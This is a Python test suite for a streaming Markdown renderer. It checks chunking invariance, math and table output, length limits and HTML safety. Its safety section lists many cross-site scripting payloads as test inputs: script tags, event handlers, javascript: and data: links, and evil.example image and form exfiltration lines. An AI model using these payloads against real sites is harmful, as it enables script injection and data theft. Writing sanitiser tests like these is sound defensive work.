"""A body as blocks: the same ones however its text arrives, and nothing unsafe in them."""

import re
import subprocess
import sys
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from html import escape
from html.parser import HTMLParser
from itertools import pairwise
from typing import Any
from unittest.mock import patch

import pytest
from hypothesis import given
from hypothesis import strategies as st

from local.processes import ROOT
from shared.body import Body
from tests.strategies import thorough
from web.page import blocks, extended_rules, highlighting, markdown, tail
from web.page.blocks import Block, Blocks, Rest
from web.page.cpu_limit import with_fallback
from web.page.markdown import block_tokens, code_html, markdown_html
from web.page.tail import WINDOW_CHARS
from web.page.unfinished import completed


@pytest.fixture(scope="module", autouse=True)
def prepared() -> None:
    """Compile all lexers: that takes longer than a block may take."""
    markdown.prepare()
    for language in highlighting.LATE:
        list(highlighting.loading(f"```{language}"))


# --- the ways in which a text arrives ------------------------------------------------------------


def whole(text: str, kind: str = "text") -> list[Block]:
    """The blocks of a text that is fed at once."""
    return fed([text], kind)


def fed(pieces: Sequence[str], kind: str = "text", *, shown: bool = False) -> list[Block]:
    """The blocks of a text that is fed in pieces; `shown`: the open block is checked each time."""
    body, made = Body(), Blocks()
    for piece in filter(None, pieces):
        body.write(kind, piece)
        for _ in made.feed(body):
            pass
        if shown:
            safe(opened.html if (opened := made.open()) else "")
    list(made.end())
    return made.take()


def halves(text: str) -> Iterator[list[str]]:
    """The text in two pieces, cut at every place."""
    for place in range(1, len(text)):
        yield [text[:place], text[place:]]


@contextmanager
def small_limits() -> Iterator[None]:
    """Limits of about a line, so that short examples exceed them."""
    pieces = {"PIECE_CHARS": 20, "WINDOW_CHARS": 60, "TABLE_HEAD_CHARS": 30}
    limits: dict[str, Any] = {**pieces, "FIRST_VIEW_CHARS": 8}
    with patch.multiple(tail, **limits), patch.object(blocks, "SLICE_CHARS", 10):
        yield


#: Pieces of which random text becomes Markdown.
SIGNS = (
    *("- ", "* ", "1. ", "2) ", "> ", "    ", "  ", "\n", "\n", "\n\n", "\r\n", "\r", "\t", "\\"),
    *("```", "~~~", "```py\n", "|", "---", "|-|-|\n", "| a | b |\n", "# ", "#", "=", "-", "&amp;"),
    *("*", "**", "_", "`", "~~", "$", "$$", "\\[", "\\]", "\\(", "\\)", "<b>", "[x](", ")", "!["),
    *("- [ ] ", "[x] ", "> [!NOTE]\n", "[!tip]", "[^1]", "[^1]: ", "[^note]:", "<sub>", "</sub>"),
    *("<b>", "</b>", "<br>", "\\frac{a}", "{b}", "\\begin{aligned}", "\\end{aligned}", "^", "&="),
    *("http://a.b", "javascript:", "[a]: /x\n", "text", "foo\n", "é", "😀", "\u2028", "\u0085"),
)
sources = st.lists(st.sampled_from(SIGNS), max_size=40).map("".join)
cuts = st.lists(st.integers(0, 200), max_size=6)


def pieces_of(text: str, places: Sequence[int]) -> list[str]:
    """The text cut at these places."""
    edges = [0, *sorted(min(place, len(text)) for place in places), len(text)]
    return [text[start:end] for start, end in pairwise(edges)]


@given(sources, cuts)
@thorough(300)
def test_blocks_do_not_depend_on_how_the_text_arrives(text: str, places: list[int]) -> None:
    assert fed(pieces_of(text, places), shown=True) == whole(text)


@given(sources, cuts)
@thorough(300)
def test_cuts_of_long_blocks_do_not_depend_on_how_the_text_arrives(
    text: str, places: list[int]
) -> None:
    with small_limits():
        assert fed(pieces_of(text, places)) == fed(list(text)) == whole(text)


@given(sources)
@thorough(300)
def test_joined_blocks_are_the_text_and_its_html(text: str) -> None:
    found = whole(text)

    assert "".join(block.text for block in found) == text
    assert [block.number for block in found] == list(range(len(found)))
    assert [block.start for block in found] == [0, *(block.end for block in found)][:-1]
    assert squeezed("".join(block.html for block in found)) == squeezed(markdown_html(text))


# --- continuations -------------------------------------------------------------------------------


def continued(texts: Sequence[str], kind: str = "text") -> list[Block]:
    """The blocks that are shown of messages, each of which continues the one before it."""
    found: list[Block] = []
    rest: Rest | None = None
    first = 0
    for text in texts:
        body, made = Body(), Blocks(continues=rest)
        body.write(kind, text)
        list(made.feed(body))
        opened = made.open()
        list(made.end())
        own = made.take()
        if rest is not None and own:
            assert opened is None or own[opened.number].start == opened.start
            found[first:] = [one for one in found[first:] if one.start < rest.start]
        if own:
            first = len(found)
        assert "".join(block.text for block in own) == text
        assert [block.start for block in own] == [0, *(block.end for block in own)][:-1]
        found += own
        rest = made.rest
    return found


def as_shown(found: Sequence[Block]) -> str:
    """Their HTML without colours, for which there may be no time."""
    return re.sub("</?span[^>]*>", "", "".join(block.html for block in found))


@given(sources, cuts)
@thorough(300)
def test_continuations_are_shown_as_if_all_were_one_text(text: str, places: list[int]) -> None:
    pieces = [piece for piece in pieces_of(text, places) if piece]

    assert as_shown(continued(pieces)) == as_shown(whole(text))
    with small_limits():
        assert as_shown(continued(pieces)) == as_shown(whole(text))


@pytest.mark.parametrize(
    ("text", "seen"),
    [
        ("| a | b |\n|---|---|\n| one | two |\n", "<td"),
        ("```py\nprint(1)\nprint(2)\n```\n", "print"),
        ("1. one\n2. two\n   - three\n", "<li"),
        ("A **bold** word.", "strong"),
    ],
)
def test_text_that_is_cut_anywhere_goes_on_in_its_context(text: str, seen: str) -> None:
    for first, second in halves(text):
        found = continued([first, second])
        assert as_shown(found) == as_shown(whole(text))
        assert seen in as_shown(found)


def test_a_long_fence_goes_on_after_its_pieces() -> None:
    code = "```py\n" + "".join(f"line({n})\n" for n in range(600))

    found = continued([code, "more()\n" * 4_000, "last()\n```\nEnd."])

    assert as_shown(found) == as_shown(whole(code + "more()\n" * 4_000 + "last()\n```\nEnd."))
    assert found[1].joins


def test_only_text_is_continued() -> None:
    body, made = Body(), Blocks()
    body.write("text", "# A table\n| a |")
    list(made.feed(body))
    list(made.end())
    second, going_on = Body(), Blocks(continues=made.rest)
    second.write("reasoning", "Where was I?")
    second.write("text", " b |\n|-|-|\n| 1 | 2 |")
    list(going_on.feed(second))
    list(going_on.end())
    thought, table = going_on.take()

    assert made.rest is not None
    assert made.rest.start == len("# A table\n")
    assert (thought.kind, thought.html) == ("reasoning", whole("Where was I?", "reasoning")[0].html)
    assert table.html == whole("| a | b |\n|-|-|\n| 1 | 2 |")[0].html
    list((thinking := Blocks()).feed(second, 5))
    list(thinking.end())
    assert thinking.rest is None


def squeezed(html: str) -> str:
    """The HTML without white space."""
    return "".join(html.split())


# --- safety --------------------------------------------------------------------------------------


class SafetyChecker(HTMLParser):
    """Parses as a browser does, and fails for anything that is not allowed."""

    TAGS = frozenset(
        {"p", *(f"h{level}" for level in range(1, 7)), "ul", "ol", "li", "blockquote", "hr", "pre"}
        | {"table", "thead", "tbody", "tr", "th", "td", "strong", "em", "s", "br", "code", "a"}
        | {"div", "span", "sub", "sup", "kbd", "mark", "u", "b", "i", "ins", "del", "small"}
    )
    ATTRIBUTES = frozenset({"dir", "class", "start", "href", "target", "rel", "title"})
    #: What only places what is in it.
    MATH = frozenset(
        {"math", "mrow", "mi", "mn", "mo", "mtext", "mspace", "mfrac", "msqrt", "mroot", "msub"}
        | {"msup", "msubsup", "munder", "mover", "munderover", "mmultiscripts", "mprescripts"}
        | {"mtable", "mtr", "mtd", "menclose", "mphantom", "mpadded"}
    )
    MATH_ATTRIBUTES = frozenset(
        {
            "class",
            "display",
            "displaystyle",
            "scriptlevel",
            "stretchy",
            "symmetric",
            "form",
            "fence",
        }
        | {"movablelimits", "lspace", "rspace", "minsize", "maxsize", "width", "height", "depth"}
        | {"voffset", "linethickness", "accent", "accentunder", "mathvariant", "notation"}
    )
    OWN = frozenset(
        {("pre", "data-language"), ("blockquote", "data-callout"), ("span", "data-tex")}
    )
    OWN |= {("div", "data-tex"), ("div", "data-note"), ("sup", "data-note")}

    def __init__(self, *, convert_charrefs: bool = True) -> None:
        super().__init__(convert_charrefs=convert_charrefs)
        self.texts: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in self.TAGS or tag in self.MATH, tag
        allowed = self.MATH_ATTRIBUTES if tag in self.MATH else self.ATTRIBUTES
        for name, value in attrs:
            assert name in allowed or (tag, name) in self.OWN, (tag, name)
            if name == "href":
                address = (value or "").strip().lower()
                assert address.startswith(("http://", "https://", "mailto:")), value
        if tag == "a" and dict(attrs).get("href"):
            assert dict(attrs)["rel"] == "noopener nofollow noreferrer"

    def handle_data(self, data: str) -> None:
        self.texts.append(data)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)

    def unknown_decl(self, data: str) -> None:
        raise AssertionError(data)

    def handle_pi(self, data: str) -> None:
        raise AssertionError(data)


def safe(html: str) -> None:
    """Fail for anything that could run, fetch or hide something."""
    checker = SafetyChecker()
    checker.feed(html)
    checker.close()


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "</code></pre><script>alert(1)</script>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\\u006aavascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example/x)",
    "[x](/api/conversations)",
    '[x](https://good.example "onclick=alert(1)")',
    "[x](https://good.example'onmouseover='alert(1))",
    '<https://good.example/"onload=alert(1)>',
    "<javascript:alert(1)>",
    "![x](https://evil.example/?secret)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[![x](https://evil.example/x.png)](https://evil.example)",
    "[x]: javascript:alert(1)\n\n[x]",
    "```<script>alert(1)</script>\nx\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```html\n<script>alert(1)</script>\n```",
    "~~~js onclick=alert(1)\n</code></pre><img src=x onerror=alert(1)>\n~~~",
    "| a | b |\n|:-|-:|\n| <img src=x onerror=alert(1)> | `</td><script>` |",
    "$$</div><script>alert(1)</script>$$",
    "\\(<img src=x onerror=alert(1)>\\)",
    "<!-- <script>alert(1)</script> -->",
    "<style>@import 'https://evil.example'</style>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "# <form action=https://evil.example><input name=x>",
    "- <details open ontoggle=alert(1)>",
    "> <meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<b id=composer name=thread style='position:fixed;inset:0'>x</b>",
    "<b onclick=alert(1)>x</b><sub/onload=alert(1)>x</sub>",
    "<br onload=alert(1)><br/><b><i></b></i></sub><mark>",
    "$\\href{javascript:alert(1)}{x}$ $\\style{position:fixed}{x}$ $\\class{code}{x}$",
    "$\\text{<img src=x onerror=alert(1)>}$ $\\unicode{x3c}$",
    "$$\\text{</math><script>alert(1)</script>}$$",
    "$\\text{\\textbf{<style>}}<mglyph><annotation-xml>$",
    '$x"onmouseover=alert(1) y="$',
    "$\\hspace{-99em}\\raisebox{99em}{x}\\color{red;background:url(//evil.example)}{x}$",
    '[^1]: <script>alert(1)</script> [^1] [^"onclick=alert(1)]',
    '> [!NOTE"onclick=alert(1)]\n> [!<script>]',
    "- [ ] <input onfocus=alert(1) autofocus> [x](javascript:alert(1))",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_harmless_wherever_it_is_cut(text: str) -> None:
    expected = whole(text)
    for block in expected:
        safe(block.html)
    for pieces in halves(text):
        assert fed(pieces, shown=True) == expected


@given(st.lists(st.sampled_from([*SIGNS, *HOSTILE]), max_size=8).map("".join), cuts)
@thorough(200)
def test_hostile_text_is_harmless_in_any_context(text: str, places: list[int]) -> None:
    for block in fed(pieces_of(text, places), shown=True):
        safe(block.html)


@given(st.sampled_from(sorted(highlighting.LANGUAGES)), sources)
@thorough(200)
def test_highlighting_does_not_change_the_code(language: str, code: str) -> None:
    html = code_html(code, language)

    safe(html)
    checker = SafetyChecker()
    checker.feed(html)
    checker.close()
    shown = "".join(checker.texts).replace("\r\n", "\n").replace("\r", "\n").rstrip("\n")
    assert shown == code.replace("\r\n", "\n").replace("\r", "\n").rstrip("\n")


#: Prints the HTML of late languages in a new process: in a fence, in a list, in the open block.
LATE = """
from shared.body import Body
from web.page import markdown
from web.page.blocks import Blocks
markdown.prepare()
body, made = Body(), Blocks()
for text in (
    "```scala\\nval a = 1\\n```\\n\\n",
    "- a\\n  ~~~ julia\\n  return 1\\n  ~~~\\n\\nb\\n\\n",
    "> ```kotlin\\n> val",
):
    body.write("text", text)
    list(made.feed(body))
print(*[block.html for block in made.take()], made.open().html)
"""


def test_a_lexer_is_loaded_before_the_first_code_in_its_language_is_shown() -> None:
    done = subprocess.run([sys.executable, "-c", LATE], capture_output=True, text=True, check=True)

    assert done.stdout.count('<span class="k') == 3, done.stdout


def test_code_whose_lexer_does_not_end_is_shown_plain() -> None:
    with patch.object(highlighting, "_FORMATTER") as formatter:
        formatter.format.side_effect = endless_loop
        assert "<span" not in code_html("x = 1\n", "py")


def endless_loop(*_: object) -> None:
    while True:
        pass


# --- appearance ----------------------------------------------------------------------------------


def test_links_send_no_referrer_and_images_are_not_fetched() -> None:
    html = markdown_html("https://a.example and ![a cat](https://b.example/cat.png)")

    assert html.count('target="_blank" rel="noopener nofollow noreferrer"') == 2
    assert ">Image: a cat</a>" in html
    assert "<img" not in html


@pytest.mark.parametrize(
    "math",
    ["$a_b*c*d$", "$$a_b$$", "\\(x_1 * y_1\\)", "\\[\nx_1\n- y_1\n\\]", "$$\n\\frac{a}{b}\n$$"],
)
def test_math_becomes_mathml_and_keeps_its_source(math: str) -> None:
    html = markdown_html(f"Look:\n{math}\nand on")

    assert f'data-tex="{math}"><math' in html
    assert "<em>" not in html


def test_amounts_of_money_are_not_math() -> None:
    assert "math" not in markdown_html("It costs $5 now and $10 later.")


def test_underline_does_not_turn_a_paragraph_into_a_heading() -> None:
    assert markdown_html("Text:\n---\n").startswith('<p dir="auto">Text:</p>\n<hr>')


@pytest.mark.parametrize(
    "math",
    [
        *(
            "$\\unknown{x}$",
            "$\\frac{a}$",
            "$\\left( x$",
            "\\(x & y\\)",
            "$$\n\\begin{aligned}x\n$$",
        ),
        *(
            "$\\def\\a{\\a\\a}\\a$",
            "$\\newcommand{\\x}{y}\\x$",
            "$\\gdef\\x{y}\\x$",
            "$\\let\\x=y\\x$",
        ),
        *("$\\hspace{999em}x$", "$\\hspace{-9em}x$", "$" + "{" * 60 + "x" + "}" * 60 + "$"),
        *("$" + "x+" * 1_200 + "x$", "\\(" + "\\sqrt{" * 51 + "}" * 51 + "\\)", "$$x$$ y $$z"),
    ],
)
def test_math_that_cannot_be_typeset_is_shown_as_written(math: str) -> None:
    last = math.rsplit("$$", 1)[-1] if math.endswith("z") else math

    html = markdown_html(f"Look:\n{math}\nand on")

    assert escape(last) in html
    assert html.count("<math") == math.count("$$x$$")


def test_a_block_has_a_limited_amount_of_mathml() -> None:
    with patch.object(markdown, "MATH_CHARS", 200):
        html = markdown_html("$x_1$ " * 20 + "*so*")

    assert html.count("<math") == 4
    assert html.count('<span class="math">$x_1$</span>') == 16


def test_formulas_of_several_lines_are_aligned_and_not_numbered() -> None:
    html = markdown_html("$$\n\\begin{align}\na &= b \\\\\n&= c \\tag{1}\n\\end{align}\n$$")

    assert html.count('<mtd class="to-right">') == html.count('<mtd class="to-left">') == 2
    assert "(1)" in html
    assert "(2)" not in html


@pytest.mark.parametrize(
    "text", ["$a^2$ or", "> [!TIP]\n> Use\n> it", "- [ ] a\n- [x] b", "x[^1]\n\n[^1]: y"]
)
def test_new_blocks_are_the_same_wherever_they_are_cut(text: str) -> None:
    expected = whole(text)
    for pieces in halves(text):
        assert fed(pieces, shown=True) == expected


def test_roots_have_their_sign_without_a_font_for_math() -> None:
    html = markdown_html("$\\sqrt{x} + \\sqrt[3]{y}$")

    assert html.count("√") == 2
    assert html.count('<mrow class="radicand">') == 2
    assert "<msqrt" not in html


def test_tasks_have_boxes() -> None:
    html = markdown_html("- [ ] one\n- [x] two\n- [] three\n- [y] four\n")

    assert html.count('<li class="task"') == 2
    assert '<span class="box">☐</span> one' in html
    assert '<span class="box">☑</span> two' in html


def test_quote_that_begins_with_its_kind_is_a_callout() -> None:
    html = markdown_html("> [!WARNING]\n> Hot.\n\n> [!OTHER]\n> Cold.\n\n> [!NOTE] Same line.")

    assert '<blockquote data-callout="warning" dir="auto">\n<p dir="auto">Hot.</p>' in html
    assert html.count("data-callout") == 1
    assert "[!OTHER]" in html


def test_footnotes_stand_where_they_are_written_under_their_labels() -> None:
    first, note, other, after = whole(
        "So[^1] it is[^why].\n\n[^1]: Said *one*.\n[^why]: Why.\n\nEnd [^a-z]."
    )

    assert '<sup class="footnote" data-note="1">1</sup>' in first.html
    assert 'data-note="why">why</sup>' in first.html
    assert '<div class="footnote" data-note="1"><sup>1</sup><p dir="auto">Said <em>' in note.html
    assert 'data-note="why"' in other.html
    assert "[^a-z]" in after.html


def test_a_few_tags_are_html_if_they_are_closed() -> None:
    html = markdown_html("H<sub>2</sub>O<br>E<SUP>2</SUP> <kbd>A</kbd> <b>open <i>x</b></i> <p>")

    assert "H<sub>2</sub>O<br>" in html
    assert "E<sup>2</sup> <kbd>A</kbd> &lt;b&gt;open <i>x&lt;/b&gt;</i> &lt;p&gt;" in html
    assert "<br>" in markdown_html("|a|\n|-|\n|x<br/>y|")


def test_nested_tags_are_limited() -> None:
    assert markdown_html("<b>" * 30 + "x" + "</b>" * 30).count("<b>") == extended_rules.MAX_TAGS


def test_what_holds_blocks_has_the_direction_of_its_first_word() -> None:
    assert markdown_html("1. 42: القمر\n2. two\n").startswith('<ol dir="rtl">\n<li>')
    assert markdown_html("- one\n- القمر\n").startswith("<ul>\n<li>")
    assert markdown_html("> «البحر»\n").startswith('<blockquote dir="rtl">')
    assert markdown_html("> 1\n>\n> - one\n").startswith('<blockquote dir="auto">')
    table = "| | القمر |\n|---|---|\n| kg | 1 |\n"
    assert markdown_html(table).startswith('<div class="table"><table dir="rtl">')
    mixed = markdown_html("> hello\n> - مرحبا\n")
    assert mixed.startswith('<blockquote dir="auto">')
    assert '<ul dir="rtl">' in mixed


def test_raw_html_is_shown_as_text() -> None:
    assert "&lt;p&gt;bold&lt;/p&gt;" in markdown_html("<p>bold</p>")


def test_each_part_has_its_own_blocks_and_tool_arguments_are_not_markdown() -> None:
    body = Body()
    body.write("reasoning", "Let me *think*")
    body.write("text", "It is **so**")
    body.write("tool_call", '{"a": "**b**"}', {"id": "1", "name": "look"})
    made = Blocks()
    for _ in made.feed(body):
        pass
    list(made.end())
    found = made.take()

    assert [(block.part, block.kind) for block in found] == [
        (0, "reasoning"),
        (1, "text"),
        (2, "tool_call"),
    ]
    assert "<em>think</em>" in found[0].html
    assert found[2].meta == {"id": "1", "name": "look"}
    assert "**b**" in found[2].html


# --- long texts ----------------------------------------------------------------------------------

LONG = {
    "list": "- an item of a list with some words\n" * 3_000,
    "numbered list": "".join(f"{n}. an item of a list\n" for n in range(1, 4_000)),
    "fence": "```py\n" + "def f(x):\n    return x + 1\n\n" * 3_000,
    "table": "| a | b |\n|---|---|\n" + "| a cell | another |\n" * 4_000,
    "paragraph": "some words and " * 6_000,
    "one word": "x" * 90_000,
    "line of code": "```\n" + "y" * 90_000,
    "quote": "> said somebody\n" * 5_000,
    "lines": "a line\n" * 12_000,
    "item": "- an item\n\n" + "  with more\n\n" * 6_000,
}


@pytest.mark.parametrize("name", LONG)
def test_open_block_stays_short_however_long_the_text_is(name: str) -> None:
    text, body, made = LONG[name], Body(), Blocks()
    for start in range(0, len(text), 10_000):
        body.write("text", text[start : start + 10_000])
        for _ in made.feed(body):
            pass
        opened = made.open()
        assert opened is None or len(opened.text) <= WINDOW_CHARS + 10
    list(made.end())
    found = made.take()

    assert "".join(block.text for block in found) == text
    assert max(len(block.text) for block in found) <= WINDOW_CHARS + 10
    assert name == "item" or all(block.joins for block in found[1:])


@pytest.mark.parametrize("text", ["```\n```\n" * 1_000, "Run this:\n\n```\nls -la\n```\n\n" * 700])
def test_text_after_a_fence_is_not_parsed_before_the_fence_has_ended(text: str) -> None:
    with patch("web.page.structure.block_tokens", wraps=block_tokens) as made:
        found = whole(text)

    parsed = sum(len(call.args[0]) for call in made.call_args_list)
    assert "".join(block.text for block in found) == text
    assert parsed < 100 * len(text)


#: Each of them would take seconds without limits.
EXPENSIVE = {
    "quotes": ">" * 100 + "a\n" + "b\n" * 3_900,
    "quotes with blanks": "> " * 50 + "a\n" + "b\n" * 3_900,
    "columns": "|a" * 1_500 + "|\n" + "|-" * 1_500 + "|\n" + "a\n" * 900,
    "ticks": "`" * 3_999 + "a" * 3_999,
    "brackets": "\\(" * 3_999,
}


@pytest.mark.alone
@pytest.mark.parametrize("name", EXPENSIVE)
def test_expensive_text_costs_at_most_ten_limits(name: str) -> None:
    # A quick machine gives four parses up, a slow one eight: not one for each of the lines.
    text, body, made = EXPENSIVE[name], Body(), Blocks()
    body.write("text", text)
    given_up: list[float] = []

    def limited(seconds: float, work: Callable[[], Any], otherwise: Callable[[], Any]) -> Any:
        def gave_up() -> Any:
            given_up.append(seconds)
            return otherwise()

        return with_fallback(seconds, work, gave_up)

    with (
        patch("web.page.markdown.with_fallback", limited),
        patch("web.page.highlighting.with_fallback", limited),
    ):
        for _ in made.feed(body):
            pass
        made.open()
        for _ in made.end():
            pass

    assert "".join(block.text for block in made.take()) == text
    assert sum(given_up) <= 10 * markdown.BLOCK_SECONDS


@pytest.mark.parametrize("sign", [">", "> ", "- ", "1. "])
def test_too_deep_nesting_becomes_a_paragraph_and_loses_no_text(sign: str) -> None:
    [first, second, third] = whole(sign * 60 + "deep\n\nMuch *more*.\n\nThe end.")

    assert "deep" in first.html
    assert "<em>more</em>" in second.html
    assert "The end." in third.html


def test_long_table_repeats_its_head_above_each_piece() -> None:
    with patch.object(markdown, "BLOCK_SECONDS", 10.0):  # a slow machine shows it as plain text
        found = whole(LONG["table"])

    assert len(found) > 5
    assert all("<th" in block.html and block.html.count("<td") > 100 for block in found[:-1])


def test_numbered_list_continues_counting_in_the_next_piece() -> None:
    first, second, *_ = whole(LONG["numbered list"])

    items = first.html.count("<li")
    assert f'<ol start="{items + 1}">' in second.html


def test_text_after_a_long_fence_is_not_code() -> None:
    *_, last = whole(LONG["fence"] + "```\n\nAnd **so** on.")

    assert not last.joins
    assert "<strong>so</strong>" in last.html


# --- unfinished text -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Text:\n-", "Text:\n"),
        ("Text\n#", "Text\n"),
        ("1.", ""),
        ("**bo", "**bo**"),
        ("**bold*", "**bold**"),
        ("**bold**", "**bold**"),
        ("some `code", "some `code`"),
        ("some `code` and", "some `code` and"),
        ("~~gone", "~~gone~~"),
        ("an *emphasis", "an *emphasis*"),
        ("2 * 3", "2 * 3"),
        ("see [this](https://exa", "see this"),
        ("see [this](https://example.com)", "see [this](https://example.com)"),
        ("a `**` b", "a `**` b"),
        ("Look:\n| a | b |", "Look:\n"),
        ("Look:\n| a | b |\n|--", "Look:\n"),
        ("| a | b |\n|---|---|\n| 1", "| a | b |\n|---|---|\n| 1"),
        ("so $E = mc^", "so $E = mc$"),
        ("it costs $5 and = ", "it costs $5 and = "),
        ("see \\(x + \\fr", "see \\(x +\\)"),
        ("$$\n\\frac{a}{b", "$$\n\\frac{a}{b}$$"),
        (
            "$$\n\\begin{aligned}\na &= \\left(b",
            "$$\n\\begin{aligned}\na &= \\left(b\\right.\\end{aligned}$$",
        ),
        ("$$\nx\n$$\ny", "$$\nx\n$$\ny"),
        ("- [x] do", "- [x] do"),
        ("- a\n- [x", "- a\n- "),
        ("> [!NO", ">"),
        ("so[^1", "so"),
        ("H<su", "H"),
        ("H<sub>2", "H<sub>2</sub>"),
    ],
)
def test_unfinished_text_is_shown_as_it_will_look(text: str, shown: str) -> None:
    assert completed(text) == shown


def test_a_prepared_process_has_built_all_that_a_text_may_need() -> None:
    """Else the first text of a person would have to, within a limit, and be shown plain."""
    texts = [
        "See https://exam",
        "[x](//evil.example/x)",
        "$x^2$",
        "| a |\n|---|\n| b |",
        "> [!TIP]\n> a",
    ]
    program = (
        "import sys; from web.page import markdown; markdown.prepare()\n"
        "from web.page.markdown import markdown_html as html\n"
        "from time import thread_time as now\n"
        "for text in sys.argv[1:]:\n"
        "    before = now(); html(text); first = now() - before\n"
        "    before = now(); html(text); second = now() - before\n"
        "    print(first - second)\n"
    )
    found = subprocess.run(
        [sys.executable, "-c", program, *texts], cwd=ROOT, capture_output=True, check=True
    ).stdout
    assert max(map(float, found.split())) < markdown.BLOCK_SECONDS / 4
